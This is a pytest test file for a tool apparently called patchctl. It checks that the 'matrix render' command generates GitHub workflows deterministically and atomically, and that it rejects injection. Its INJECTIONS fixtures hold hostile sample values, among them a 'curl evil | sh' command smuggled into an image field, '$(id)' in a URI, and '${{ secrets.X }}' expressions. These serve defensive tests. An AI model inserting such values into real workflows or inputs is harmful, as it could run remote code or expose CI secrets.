"""`patchctl matrix render`: golden output, drift detection with a diff, all-or-nothing
writes, and the security property that nothing in matrix.yaml reaches a workflow as a
GitHub expression or as YAML structure."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from patchctl.matrix.render import quote
from patchctl.matrix.sources import attach_localai_index, load_localai_matrix, load_project
from patchctl.state import journal

from .matrix_fixtures import GOLDEN, GOOD, REPO, make_project

OUTPUTS = [
    ".github/workflows/backend.yml",
    ".github/workflows/canary.yml",
    ".github/workflows/ci.yml",
    ".github/workflows/pin-sync.yml",
    "backend/index.yaml",
]


def rendered(project: Path) -> dict[str, str]:
    return {name: (project / name).read_text() for name in OUTPUTS}


def test_render_matches_golden_files(cli, tmp_path: Path) -> None:
    project = make_project(tmp_path)
    result = cli("-C", project, "matrix", "render")
    assert result.exit_code == 0, result.output
    assert sorted(line.split()[-1] for line in result.stdout.splitlines()) == sorted(OUTPUTS)
    if os.environ.get("PATCHCTL_UPDATE_GOLDEN") == "1":
        for name, text in rendered(project).items():
            (GOLDEN / name).parent.mkdir(parents=True, exist_ok=True)
            (GOLDEN / name).write_text(text)
    for name, text in rendered(project).items():
        assert text == (GOLDEN / name).read_text(), (
            f"{name} differs from its golden file (PATCHCTL_UPDATE_GOLDEN=1 regenerates)"
        )


def test_every_output_starts_with_the_generated_header_and_parses(cli, tmp_path: Path) -> None:
    project = make_project(tmp_path)
    cli("-C", project, "matrix", "render")
    for name, text in rendered(project).items():
        assert text.startswith("# Generated from matrix.yaml by `patchctl matrix render`"), name
        assert "Do not edit by hand" in text.splitlines()[1]
        assert yaml.safe_load(text) is not None


def test_render_is_deterministic_and_idempotent(cli, tmp_path: Path) -> None:
    project = make_project(tmp_path)
    cli("-C", project, "matrix", "render")
    first = rendered(project)
    again = cli("-C", project, "matrix", "render")
    assert all(line.startswith("unchanged") for line in again.stdout.splitlines())
    assert rendered(project) == first


def test_check_reports_drift_with_a_diff_and_writes_nothing(cli, tmp_path: Path) -> None:
    project = make_project(tmp_path)
    cli("-C", project, "matrix", "render")
    canary = project / ".github/workflows/canary.yml"
    canary.write_text(canary.read_text().replace('"0 5 * * 2"', '"0 6 * * 2"'))
    (project / "backend/index.yaml").unlink()
    before = {p: p.read_bytes() for p in project.rglob("*") if p.is_file()}
    result = cli("-C", project, "matrix", "render", "--check")
    assert result.exit_code == 1
    assert "--- a/.github/workflows/canary.yml\n+++ b/.github/workflows/canary.yml" in result.stdout
    assert '-    - cron: "0 6 * * 2"\n+    - cron: "0 5 * * 2"' in result.stdout
    assert "+++ b/backend/index.yaml" in result.stdout
    assert "2 rendered file(s) out of date: .github/workflows/canary.yml, backend/index.yaml" in result.stderr
    assert {p: p.read_bytes() for p in project.rglob("*") if p.is_file()} == before


def test_check_passes_when_up_to_date(cli, tmp_path: Path) -> None:
    project = make_project(tmp_path)
    cli("-C", project, "matrix", "render")
    result = cli("-C", project, "matrix", "render", "--check")
    assert result.exit_code == 0 and "5 file(s) up to date" in result.stdout


def test_this_repository_is_rendered(cli) -> None:
    result = cli("-C", REPO, "matrix", "render", "--check")
    assert result.exit_code == 0, result.output


def test_a_change_in_matrix_yaml_shows_up_as_drift(cli, tmp_path: Path) -> None:
    project = make_project(tmp_path)
    cli("-C", project, "matrix", "render")
    matrix = project / "matrix.yaml"
    matrix.write_text(matrix.read_text().replace("description: 'llama.cpp", "description: 'Patched llama.cpp"))
    result = cli("-C", project, "matrix", "render", "--check", "--json")
    assert result.exit_code == 1
    stale = [f["path"] for f in json.loads(result.stdout)["files"] if f["stale"]]
    assert stale == ["backend/index.yaml"]


def test_writes_are_all_or_nothing(cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project = make_project(tmp_path)
    cli("-C", project, "matrix", "render")
    before = rendered(project)
    matrix = project / "matrix.yaml"
    matrix.write_text(
        matrix.read_text().replace("'0 5 * * 2'", "'0 7 * * 3'").replace("alias: llama-cpp", "alias: llama")
    )
    real_replace, calls = os.replace, []

    def crash_on_second(src, dst, **dir_fds):
        calls.append(dst)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        return real_replace(src, dst, **dir_fds)

    monkeypatch.setattr(journal.os, "replace", crash_on_second)
    with pytest.raises(OSError):
        from patchctl.matrix import api as matrix_api

        matrix_api.render(load_project(matrix))
    monkeypatch.setattr(journal.os, "replace", real_replace)
    assert len(calls) >= 2
    assert rendered(project) == before  # the first file was put back
    assert not [p for p in project.rglob(".*.tmp")] and not [p for p in project.rglob(".*patchctl-*")]
    assert not journal.journal_path(project).exists()


def test_no_canary_section_means_no_canary_workflow(cli, tmp_path: Path) -> None:
    text = GOOD.read_text()
    text = text[: text.index("canary:\n")] + text[text.index("backends:\n") :]
    project = make_project(tmp_path, text)
    result = cli("-C", project, "matrix", "render")
    assert result.exit_code == 0, result.output
    assert not (project / ".github/workflows/canary.yml").exists()
    assert (project / ".github/workflows/pin-sync.yml").exists()


def test_without_a_templates_directory_render_uses_patchctl_s_default_templates(cli, tmp_path: Path) -> None:
    (tmp_path / "own").mkdir()
    (tmp_path / "defaults").mkdir()
    with_own = make_project(tmp_path / "own")
    assert cli("-C", with_own, "matrix", "render").exit_code == 0
    project = make_project(tmp_path / "defaults")
    shutil.rmtree(project / "templates")
    result = cli("-C", project, "matrix", "render")
    assert result.exit_code == 0, result.output
    assert rendered(project) == rendered(with_own)  # the defaults are the repository's templates/


def test_a_missing_templates_option_directory_is_a_usage_error(cli, tmp_path: Path) -> None:
    project = make_project(tmp_path)
    result = cli("-C", project, "matrix", "render", "--templates", tmp_path / "nowhere")
    assert result.exit_code == 2 and "no templates directory" in result.stderr


# ---------------------------------------------------------------- workflow content


def workflow(name: str) -> dict:
    return yaml.safe_load((REPO / ".github/workflows" / name).read_text())


def all_steps(document: dict) -> list[dict]:
    return [step for job in document["jobs"].values() for step in job.get("steps", [])]


@pytest.mark.parametrize("name", ["backend.yml", "canary.yml", "pin-sync.yml", "ci.yml"])
def test_no_run_script_interpolates_an_expression(name: str) -> None:
    """Untrusted values reach shell scripts only through env: a `${{ }}` in `run:` is an injection hole."""
    for step in all_steps(workflow(name)):
        assert "${{" not in step.get("run", ""), step


def test_canary_workflow_shape() -> None:
    canary = workflow("canary.yml")
    triggers = canary[True]  # PyYAML reads the key `on` as True
    assert triggers["schedule"] == [{"cron": "17 3 * * 1"}] and "workflow_dispatch" in triggers
    assert canary["permissions"] == {} and canary["jobs"]["resolve"]["permissions"] == {"contents": "read"}
    assert canary["concurrency"]["cancel-in-progress"] is False and "github.run_id" in canary["concurrency"]["group"]
    assert canary["jobs"]["issues"]["concurrency"]["cancel-in-progress"] is False
    assert canary["env"]["PATCHCTL_UPSTREAM_SOURCE"] == "ci"
    resolve, compile_job = canary["jobs"]["resolve"], canary["jobs"]["compile"]
    resolve_run = canary_step(resolve)
    assert "--no-compile --check-submitted" in resolve_run["run"] and "--json-file" in resolve_run["run"]
    assert resolve_run["env"]["GH_TOKEN"] == "${{ github.token }}"  # read-only: gh reads Submitted patches' PRs
    assert compile_job["needs"] == "resolve" and canary["jobs"]["issues"]["needs"] == ["resolve", "compile"]
    assert compile_job["strategy"]["matrix"] == "${{ fromJSON(needs.resolve.outputs.toolchains) }}"
    toolchains = json.loads(resolve_run["env"]["TOOLCHAINS"])["include"]
    assert [(t["name"], t["image"], t["runs-on"]) for t in toolchains] == [
        ("cpu-amd64", "gcc:14-bookworm", "ubuntu-latest"),
        ("cuda-13", "nvidia/cuda:13.0.0-devel-ubuntu24.04", "ubuntu-latest"),
    ]
    run = canary_step(compile_job)
    assert run["env"]["REV"] == "${{ needs.resolve.outputs.rev }}"
    assert 'patchctl canary "$UPSTREAM" --rev "$REV" --compile' in run["run"]
    # Each job saves what the canary fetched: the action again, after the canary, whatever its verdict.
    for job in (resolve, compile_job):
        steps = job["steps"]
        save = next(s for s in steps if s.get("name") == "save what the canary fetched to the cache")
        assert steps.index(save) > steps.index(canary_step(job))
        assert save["uses"] == "./" and save["if"] == "always()" and "command" not in save["with"]


def canary_step(job: dict) -> dict:
    return next(s for s in job["steps"] if "patchctl canary" in s.get("run", ""))


def test_pin_sync_workflow_shape() -> None:
    sync = workflow("pin-sync.yml")
    assert sync[True]["schedule"] == [{"cron": "41 4 * * 1"}]
    assert sync["env"]["PATCHCTL_UPSTREAM_SOURCE"] == "ci"  # on github.com: the real upstream's tip
    inputs = sync[True]["workflow_dispatch"]["inputs"]
    assert inputs["target"]["required"] is False and inputs["upstream"]["options"] == ["llama.cpp"]
    # Two jobs: the sync (the upstream's build, the gates) with a read-only token; the publish job,
    # which alone can write the repository, receives the change as an artifact. Beside them the
    # dashboard's: status judged read-only, rendered into the issue after every publish job.
    assert list(sync["jobs"]) == ["sync", "status", "publish", "dashboard"]
    assert sync["jobs"]["status"]["permissions"] == {"contents": "read"}
    assert sync["jobs"]["dashboard"]["needs"] == ["status", "sync", "publish"]
    job, publish = sync["jobs"]["sync"], sync["jobs"]["publish"]
    assert job["permissions"] == {"contents": "read"} and "environment" not in job
    assert publish["needs"] == "sync" and publish["environment"] == "pin-sync"
    assert publish["strategy"] == job["strategy"]
    assert "'[\"llama.cpp\"]'" in job["strategy"]["matrix"]["upstream"]
    step = next(s for s in job["steps"] if s.get("id") == "sync")
    assert step["uses"] == "./" and step["with"]["command"] == "pin-sync"
    # This repository's gates run its engine: the engine extra, here only.
    assert step["with"]["extras"] == "engine" and "'--latest'" in step["with"]["args"]
    assert [s["with"].get("extras") for s in publish["steps"] if s.get("uses") == "./"] == [None]
    assert not any(s.get("uses", "").startswith("peter-evans/") for s in all_steps(sync))


def test_build_workflow_consumes_the_plan_with_fromjson() -> None:
    build = workflow("backend.yml")
    assert build["jobs"]["linux"]["strategy"]["matrix"] == "${{ fromJSON(needs.plan.outputs.linux) }}"
    assert build["jobs"]["darwin"]["strategy"]["matrix"] == "${{ fromJSON(needs.plan.outputs.darwin) }}"
    assert "patchctl/**" not in build[True]["pull_request"]["paths"]
    assert "patches/llama.cpp/**" in build[True]["pull_request"]["paths"]


def test_ci_workflow_runs_the_ci_script_and_the_matrix_checks() -> None:
    ci = workflow("ci.yml")
    runs = [s.get("run") for s in all_steps(ci)]
    assert ".ci/run" in runs and "patchctl matrix check" in runs
    commands = [s["with"].get("command") for s in all_steps(ci) if s.get("uses") == "./" and "with" in s]
    assert {"matrix render", "lint", "export llama.cpp", "apply", "gate"} <= set(commands)


def test_rendered_index_is_a_localai_index_equal_to_the_section(cli, tmp_path: Path) -> None:
    project = make_project(tmp_path)
    cli("-C", project, "matrix", "render")
    matrix = load_localai_matrix(REPO / "tests/patchctl/fixtures/matrix/localai/.github/backend-matrix.yml", REPO)
    attach_localai_index(matrix, project / "backend/index.yaml", project)
    from patchctl.matrix import from_config

    source = from_config(load_project(project / "matrix.yaml"))
    assert [(m.name, m.capabilities, m.alias, m.description) for m in matrix.metas] == [
        (m.name, m.capabilities, m.alias, m.description) for m in source.metas
    ]
    assert [(v.name, v.uri, v.mirrors) for v in matrix.variants] == [
        (v.name, v.uri, v.mirrors) for v in source.variants
    ]
    assert source.metas[0].description == 'llama.cpp, "paged" edition: fast # really'


# ---------------------------------------------------------------- injection


INJECTIONS = [
    (
        "backend: llama-cpp\n    dockerfile",
        "backend: '${{ github.token }}'\n    dockerfile",
        "include[0].backend: unsafe value",
    ),
    ("tag-suffix: -cpu-whisper", 'tag-suffix: "-cpu-whisper\\n    evil: true"', "include[3].tag-suffix: unsafe value"),
    (
        "runs-on: ubuntu-latest\n    base-image: ubuntu:24.04\n    backend: whisper",
        "runs-on: 'ubuntu-latest # x'\n    base-image: ubuntu:24.04\n    backend: whisper",
        "include[3].runs-on: unsafe value",
    ),
    (
        "      image: nvidia/cuda:13.0.0-devel-ubuntu24.04",
        "      image: 'x\"; curl evil | sh; \"'",
        "canary.toolchains[0].image: unsafe value",
    ),
    ("schedule: '0 5 * * 2'", "schedule: '0 5 * * ${{ 2 }}'", "canary.schedule: must be a 5-field cron"),
    (
        "uri: 'quay.io/example/backends:latest-cpu-whisper'",
        "uri: 'quay.io/x:latest-cpu-whisper$(id)'",
        "index.variants[6].uri: unsafe value",
    ),
    ("'backend/go/whisper/**'", "'backend/${{ secrets.X }}/**'", "backends.whisper.paths[0]: unsafe value"),
]


@pytest.mark.parametrize("old, new, message", INJECTIONS, ids=[m.split(":")[0] for _, _, m in INJECTIONS])
def test_injection_attempts_are_rejected_with_file_and_line(
    cli, tmp_path: Path, old: str, new: str, message: str
) -> None:
    text = GOOD.read_text()
    assert old in text
    project = make_project(tmp_path, text.replace(old, new, 1))
    result = cli("-C", project, "matrix", "render")
    assert result.exit_code == 2
    assert message in result.stderr
    assert f"{project / 'matrix.yaml'}:" in result.stderr
    assert not (project / ".github").exists()


def test_free_text_with_an_expression_is_refused_at_render(cli, tmp_path: Path) -> None:
    text = GOOD.read_text().replace(
        "description: 'llama.cpp, \"paged\" edition: fast # really'", "description: 'see ${{ secrets.TOKEN }}'"
    )
    project = make_project(tmp_path, text)
    result = cli("-C", project, "matrix", "render")
    assert result.exit_code == 2
    assert "templates/index.yaml.j2: refusing to render 'see ${{ secrets.TOKEN }}'" in result.stderr
    assert not (project / ".github").exists() and not (project / "backend").exists()


def test_yaml_breaking_free_text_is_quoted(cli, tmp_path: Path) -> None:
    nasty = "a: b\n- c # d\n\"quoted\" 'single' {flow} [list] &anchor *alias !tag %directive |\n\t\u00e9\u2028"
    text = GOOD.read_text().replace(
        "description: 'llama.cpp, \"paged\" edition: fast # really'", f"description: {json.dumps(nasty)}"
    )
    project = make_project(tmp_path, text)
    result = cli("-C", project, "matrix", "render")
    assert result.exit_code == 0, result.output
    index = yaml.safe_load((project / "backend/index.yaml").read_text())
    assert index[0]["description"] == nasty and len(index) == 10


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_quote_round_trips_any_text_and_refuses_expressions(text: str) -> None:
    if "${{" in text:
        with pytest.raises(Exception, match="GitHub expression"):
            quote(text)
        return
    assert yaml.safe_load(f"key: {quote(text)}\n") == {"key": text}


def test_canary_workflow_reads_the_key_the_canary_report_writes() -> None:
    from patchctl.loop.canary_report import CanaryReport
    from patchctl.output.jsonout import to_json

    payload = to_json(CanaryReport("llama.cpp", "a" * 40, "b" * 40, "main", None))
    step = canary_step(workflow("canary.yml")["jobs"]["resolve"])
    assert payload["tip"] == "b" * 40 and "jq -r .tip canary-report/canary.json" in step["run"]
